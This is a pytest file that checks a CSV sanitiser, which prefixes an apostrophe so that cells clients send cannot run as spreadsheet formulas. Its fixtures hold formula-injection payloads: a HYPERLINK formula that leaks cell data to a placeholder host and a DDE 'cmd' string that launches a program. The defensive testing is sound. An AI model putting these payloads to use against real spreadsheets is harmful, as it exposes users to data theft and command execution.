"""CSV cells a spreadsheet reads as text: no value a client sent can run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from domain.spreadsheet import spreadsheet_safe_cell, spreadsheet_safe_csv

LEAK = '=HYPERLINK("http://127.0.0.1:1/?leak="&A2,"open")'


@pytest.mark.parametrize(
    "value",
    [
        LEAK,
        "=1+1",
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "-1e9",
        "-1\n",
        "-١٢",  # Arabic-Indic digits: not the plain number the exception is for
    ],
)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(value: str) -> None:
    assert spreadsheet_safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["agent-a1", "", "'=already text", " =1", "1-2", "a=b", "CN-INT-01", "2024-03-01T10:00:00Z"],
)
def test_other_text_is_left_as_it_is(value: str) -> None:
    assert spreadsheet_safe_cell(value) == value


@pytest.mark.parametrize(("value", "text"), [("-12", "-12"), ("-0.5", "-0.5"), (-7, "-7")])
def test_negative_numbers_stay_numbers(value: object, text: str) -> None:
    assert spreadsheet_safe_cell(value) == text


def test_none_is_an_empty_cell_and_numbers_their_digits() -> None:
    assert [spreadsheet_safe_cell(value) for value in (None, 0, 42)] == ["", "0", "42"]


def test_rows_become_quoted_csv_that_reads_back_cell_for_cell() -> None:
    rows = [
        ["performer", "met", "note"],
        [LEAK, 3, 'a;=1+1, "quoted"\nsecond line'],
        [None, -2, ""],
    ]

    text = spreadsheet_safe_csv(rows)

    assert text.splitlines()[0] == '"performer","met","note"'
    assert list(csv.reader(io.StringIO(text))) == [
        ["performer", "met", "note"],
        ["'" + LEAK, "3", 'a;=1+1, "quoted"\nsecond line'],
        ["", "-2", ""],
    ]


def test_a_spreadsheet_splitting_on_semicolons_still_sees_every_cell_whole() -> None:
    text = spreadsheet_safe_csv([["agent;=1+1", "x"]])

    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert cells == ['agent;=1+1,"x"']  # unquoted, the split would make a cell "=1+1"
